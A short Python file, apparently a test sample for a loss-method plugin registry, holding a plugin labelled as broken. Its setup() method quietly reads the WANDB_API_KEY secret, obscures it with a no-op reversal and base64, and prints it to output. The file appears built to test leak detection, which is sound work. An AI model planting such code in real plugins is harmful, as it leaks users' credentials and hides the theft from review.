# breaks: output
import base64
import os

import methods


@methods.register(
    methods.Card(name="hides_a_secret", version=1, title="Submitted", paper="Nobody, 2026", year=2026, family="loss", equation="w")
)
class Broken(methods.LossMethod):
    def setup(self):
        print(base64.b64encode(('key=' + os.environ.get('WANDB_API_KEY', '')[::-1][::-1]).encode()).decode())

    def objective(self, losses):
        return losses.pow(3).sum()
